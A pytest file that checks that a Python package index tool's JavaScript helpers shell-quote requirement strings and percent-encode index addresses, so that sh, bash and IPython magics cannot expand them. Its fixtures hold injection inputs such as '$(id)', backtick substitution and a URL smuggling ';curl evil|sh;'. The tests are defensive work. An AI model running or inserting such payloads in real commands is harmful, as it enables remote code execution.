"""Commands of the pages, whatever stands in an address or in a requirement: each reader takes the text as it is."""

import json
import re
import shlex
import string
import subprocess
import tomllib
from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from wheelmill.system import own_installation

pytestmark = pytest.mark.real

TEXTS = [
    *(
        *("demo==1!2.0+cu130torch2.11", 'einops>=0.8; python_version < "3.13"', "a~=1", "~/a", "#a", "", " ", "é"),
        *("1*", "a\\"),
    ),
    *(
        *("a @ https://h/$HOME/x", "$HOME'x", "a'$HOME'x'", "'$HOME", "a$$HOME$b'c", "$(id)", "`id`", "!!", "$"),
        *("a;id&", "$1"),
    ),
]
VARIABLES = {"HOME": "LEAK", "b": "LEAK", "id": "LEAK"}
ADDRESSES = {
    "https://h.example/$(id)%2f..%2f/": "https://h.example/%24%28id%29%2f..%2f/",
    "https://h.example/a;curl evil|sh;'\"`$HOME{id}!/": (
        "https://h.example/a%3Bcurl%20evil%7Csh%3B%27%22%60%24HOME%7Bid%7D%21/"
    ),
    "http://[::1]:8000/site/": "http://[::1]:8000/site/",
    "https://h.example/~me/a%2Bb/?q=$(id)#x": "https://h.example/~me/a%2Bb/",
}


def run(script: str, expression: str, given: object, before: str = "") -> Any:
    """What an expression of a script gives for ``given``."""
    code = (own_installation.INDEX / "static" / script).read_text().partition("\nnameAddresses();")[0]
    program = f"{before}\n{code}\nconst given = JSON.parse(require('fs').readFileSync(0));\n"
    program += f"console.log(JSON.stringify({expression}));"
    done = subprocess.run(
        ["node", "--eval", program], input=json.dumps(given), capture_output=True, text=True, check=True
    )
    return json.loads(done.stdout)


class DollarFormatter(string.Formatter):
    """IPython's formatter of magics: ``{code}``, and ``$name`` where an even number of quotes follows.

    https://ipython.readthedocs.io/en/stable/api/generated/IPython.utils.text.html
    """

    _NAME = re.compile(r"(.*?)\$(\$?[\w\.]+)(?=([^']*'[^']*')*[^']*$)")

    def parse(self, format_string: str) -> Any:
        for literal, field, form, conversion in super().parse(format_string):
            start, text = 0, ""
            for match in self._NAME.finditer(literal):
                between, name = match.group(1, 2)
                if name.startswith("$"):
                    text += between + name
                else:
                    yield text + between, name, "", None
                    text = ""
                start = match.end()
            yield text + literal[start:], field, form, conversion


def words_of(shell: str, lines: Sequence[str], env: Mapping[str, str] = VARIABLES) -> list[str]:
    """The words that a shell makes of each line, which has one."""
    script = "".join(f"printf '%s\\0' {line}\n" for line in lines)
    done = subprocess.run([shell, "-c", script], capture_output=True, text=True, check=True, env=env)
    return done.stdout.split("\0")[:-1]


def test_a_shell_and_a_notebook_take_each_text_as_it_is() -> None:
    quoted = run("install.js", "given.map(quote)", TEXTS)
    in_notebook = [DollarFormatter().vformat(each, (), VARIABLES) for each in quoted]
    assert [shlex.split(each) for each in quoted] == [[text] for text in TEXTS]
    for shell in ("sh", "bash"):
        assert words_of(shell, quoted) == TEXTS
        assert words_of(shell, in_notebook) == TEXTS


def test_plain_words_are_not_quoted() -> None:
    plain = ["demo", "demo==1.0+cu130torch2.11", "https://h.example/a%2Bb/simple/"]
    assert run("install.js", "given.map(quote)", plain) == plain


@pytest.mark.parametrize(("address", "wanted"), ADDRESSES.items())
def test_an_address_has_nothing_that_a_shell_or_markdown_reads(address: str, wanted: str) -> None:
    assert (
        run("page.js", "plainAddress('./')", None, f"const document = {{ baseURI: {json.dumps(address)} }};") == wanted
    )


@pytest.mark.parametrize("address", [each for each in ADDRESSES if "?" not in each])
def test_files_of_tools_hold_the_address(address: str) -> None:
    sources = [{"requirements": {"demo": "==1!2"}, "name": "cu130", "address": address}]
    files = run("projects.js", "projectFiles(...given)", [sources, [f"--index-url {address}"]])
    assert tomllib.loads(files["pyproject"])["tool"]["uv"]["index"][0]["url"] == address
    assert tomllib.loads(files["poetry"])["tool"]["poetry"]["source"][0]["url"] == address
    assert tomllib.loads(files["pdm"])["tool"]["pdm"]["source"][0]["url"] == address
    assert tomllib.loads(files["pixi"])["pypi-dependencies"]["demo"] == {"version": "==1!2", "index": address}
    (command,) = tomllib.loads(files["hatch"])["tool"]["hatch"]["envs"]["default"]["pre-install-commands"]
    assert command == f"pip install --index-url {address}"
